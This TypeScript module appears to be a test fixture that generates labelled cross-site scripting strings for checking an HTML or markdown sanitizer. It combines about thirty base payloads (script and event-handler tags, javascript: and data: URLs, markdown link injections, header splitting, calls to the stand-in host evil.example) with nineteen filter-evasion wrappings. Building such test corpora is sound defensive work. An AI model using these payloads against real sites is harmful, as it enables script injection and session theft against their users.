/**
 * Texts that would do something if a browser took them for markup, in the wrappings that have got
 * them past somebody before: closed elements, other cases, entities, odd spaces, half characters.
 */
const acts: readonly string[] = [
  "<script>alert(1)</script>",
  "<script src=//evil.example/x.js></script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<input autofocus onfocus=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
  "<embed src=javascript:alert(1)>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css';</style>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt&colon;alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![x](x'onerror='alert(1))",
  "<javascript:alert(1)>",
  "[x]: vbscript:msgbox(1)\n\n[x]",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  'event: events\ndata: [{"type":"forged"}]\n\n',
  "\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
];

const upper = (text: string): string => text.toUpperCase();

const wrappings: readonly ((act: string) => string)[] = [
  (act) => act,
  (act) => `"'>${act}`,
  (act) => `</title></textarea></style></script>${act}`,
  (act) => `-->${act}<!--`,
  (act) => `]]>${act}<![CDATA[`,
  upper,
  (act) => act.replace(/</g, "<\u0000"),
  (act) => act.replace(/=/g, "\u000b="),
  (act) => act.replace(/javascript/gi, "java\tscript"),
  (act) => act.replace(/</g, "&lt;").replace(/>/g, "&gt;"),
  (act) => act.replace(/</g, "\\u003c"),
  (act) => act.replace(/</g, "+ADw-"),
  (act) => act.replace(/</g, "\uff1c").replace(/>/g, "\uff1e"),
  (act) => `\u2028${act}\u2029`,
  (act) => `\u202e${act}\u202c`,
  (act) => `# ${act}\n\n> ${act}\n\n- ${act}`,
  (act) => `<div title="${act}">`,
  (act) => `\`${act}\``,
  (act) => encodeURIComponent(act),
];

/** Each with a mark of its own, by which it is known again. */
export const xssStrings: readonly string[] = [
  ...new Set(wrappings.flatMap((wrap) => acts.map((act) => wrap(act)))),
].map((text, at) => `xss-${at}: ${text}`);
